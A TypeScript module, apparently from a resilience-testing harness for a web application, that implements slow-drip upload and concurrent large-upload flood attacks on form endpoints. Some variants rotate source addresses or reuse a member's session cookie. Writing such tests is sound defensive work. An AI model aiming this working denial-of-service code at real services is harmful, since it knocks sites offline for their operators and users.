import { once } from 'node:events'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, Target } from './attacks.ts'
import { openRaw } from './raw-connection.ts'

const megabyte = 1024 * 1024
const boundary = 'Content-Type: multipart/form-data; boundary=b\r\n'
const fileHead =
  '--b\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n%PDF-1.7 '
const end = '\r\n--b--\r\n'

/** Returns the attacker's IP address number `index`; many uploads need several addresses. */
const addressOf = ({ from }: Target, index: number) => from.replace(/\d+$/, `${2 + (index % 10)}`)

const head = ({ url }: Target, path: string, length: number, headers = '') =>
  `POST ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nOrigin: ${url}\r\n${headers}${boundary}Content-Length: ${length}\r\n\r\n`

/**
 * Keeps `count` uploads open that send 100 bytes every two seconds; replaces those that are closed.
 */
async function trickle(target: Target, path: string, count: number): Promise<void> {
  const { url, from, signal, note } = target
  async function keep() {
    while (!signal.aborted) {
      const { socket, closed, statuses } = openRaw(url, from)
      socket.write(head(target, path, 15 * megabyte) + fileHead)
      const drip = setInterval(() => socket.write('x'.repeat(100)), 2000)
      const ended = signal.aborted ? Promise.resolve() : once(signal, 'abort')
      await Promise.race([closed, ended])
      clearInterval(drip)
      note(statuses[0] ?? (signal.aborted ? 'still open' : 'closed'))
      socket.destroy()
      await wait(20)
    }
  }
  await Promise.all(Array.from({ length: count }, keep))
}

interface Flood {
  paths: readonly string[]
  bytes: number
  /** Other fields of the form. */
  fields?: Readonly<Record<string, string>>
  headers?: string
  isFromManyAddresses?: boolean
}

/** Repeatedly sends twenty forms with large files at the same time. */
async function flood(target: Target, { paths, bytes, ...more }: Flood): Promise<void> {
  const { url, from, signal, note } = target
  const { fields = {}, headers = '', isFromManyAddresses = false } = more
  const files = Math.ceil(bytes / (9.5 * megabyte))
  const content = Buffer.alloc(Math.floor(bytes / files), 'x')
  const parts = Object.entries(fields).map(
    ([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  )
  let number = 0
  async function keep(_: unknown, index: number) {
    const path = paths[index % paths.length] ?? ''
    while (!signal.aborted) {
      const address = isFromManyAddresses ? addressOf(target, index) : from
      const { socket, closed, statuses } = openRaw(url, address)
      const text = `--b\r\nContent-Disposition: form-data; name="text"\r\n\r\n${number++}\r\n`
      const fileParts = Array.from({ length: files }, () => [
        Buffer.from(`\r\n${fileHead}`),
        content,
      ])
      const body = [Buffer.from(parts.join('') + text), ...fileParts.flat(), Buffer.from(end)]
      const length = body.reduce((sum, piece) => sum + piece.length, 0)
      socket.write(head(target, path, length, headers))
      for (const piece of body) socket.write(piece)
      const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()))
      await Promise.race([answered, closed, wait(30_000, undefined, { ref: false })])
      note(statuses[0] ?? 'no answer')
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: 20 }, keep))
}

/** Attacks with file uploads, slow and large, by strangers, customers and members. */
export const uploads: readonly Attack[] = [
  {
    name: '6 uploads at an unknown link, 100 bytes every 2 s',
    run: (target) => trickle(target, `/enquiry/${'A'.repeat(43)}/message`, 6),
  },
  {
    name: '60 uploads at one’s own link, 100 bytes every 2 s',
    run: (target) => trickle(target, target.links[0] ?? '', 60),
  },
  {
    name: '20 uploads of 19 MB at once, of 10 links and addresses',
    run: (target) =>
      flood(target, { paths: target.links, bytes: 19 * megabyte, isFromManyAddresses: true }),
  },
  {
    name: '20 labels of 4.5 MB at once, without a session',
    run: (target) =>
      flood(target, { paths: [`${target.products[0]}/turn`], bytes: 4.5 * megabyte }),
  },
  {
    name: '20 uploads of 19 MB at once, of a signed-in member',
    run: (target) => {
      const { cookie, formToken, messages } = target.member
      return flood(target, {
        paths: [messages],
        bytes: 19 * megabyte,
        fields: { formToken },
        headers: `Cookie: ${cookie}\r\n`,
      })
    },
  },
]
